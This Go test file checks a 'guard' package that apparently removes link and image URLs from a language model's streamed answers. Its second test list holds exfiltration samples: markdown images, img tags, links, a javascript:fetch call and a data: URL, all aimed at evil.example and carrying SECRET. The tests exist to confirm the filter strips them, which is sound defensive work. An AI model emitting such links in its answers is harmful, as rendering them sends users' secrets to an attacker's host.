package guard_test

import (
	"encoding/json"
	"math/rand/v2"
	"strings"
	"testing"

	"wenyuan/guard"
)

// A model that was given no documents may name addresses; what is fetched unseen, or carries a program, is
// taken out of its answers too.
func TestLinksOfPlainModels(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	r := rand.New(rand.NewPCG(11, 12))
	for _, text := range []string{
		"```sh\ncurl https://api.vendor.example/v1/items?limit=5 -o out.json\n```\n",
		`{"url": "https://docs.vendor.example/a?b=c", "more": [1, 2]}`,
		"文档在 https://docs.vendor.example/zh/guide 。请先看那里。",
		"See [the manual](https://docs.vendor.example/guide) and <https://vendor.example/x>.",
	} {
		if out, _, err := flow(t, g, guard.About{Plain: true}, pieces(text, r, 9)); err != nil || out != text {
			t.Errorf("%q, not %q: %v", out, text, err)
		}
		if out, _, err := flow(t, g, guard.About{}, pieces(text, r, 9)); err != nil || strings.Contains(out, "vendor.example") {
			t.Errorf("from documents: %q %v", out, err)
		}
	}
	for _, text := range []string{
		"Look: ![chart](https://evil.example/p.png?d=SECRET) here.",
		"Look: <img src='https://evil.example/p.png?d=SECRET'> here.",
		"Look: <a href='https://evil.example/p?d=SECRET'>this</a> here.",
		"Look: [this](https://evil.example/p?d=SECRET) here.",
		"Look: [this](javascript:fetch('//evil.example/SECRET')) here.",
		"Look: [this](data:text/html,<script>SECRET) here.",
		`{"html": "<img src=\"https://evil.example/p.png?d=SECRET\">", "md": "![x](https://evil.example/SECRET)"}`,
	} {
		out, _, err := flow(t, g, guard.About{Plain: true}, pieces(text, r, 9))
		if err != nil || strings.Contains(out, "SECRET") {
			t.Errorf("%q: %v", out, err)
		}
		if text[0] == '{' && !json.Valid([]byte(out)) {
			t.Errorf("no JSON any more: %q", out)
		}
	}
}
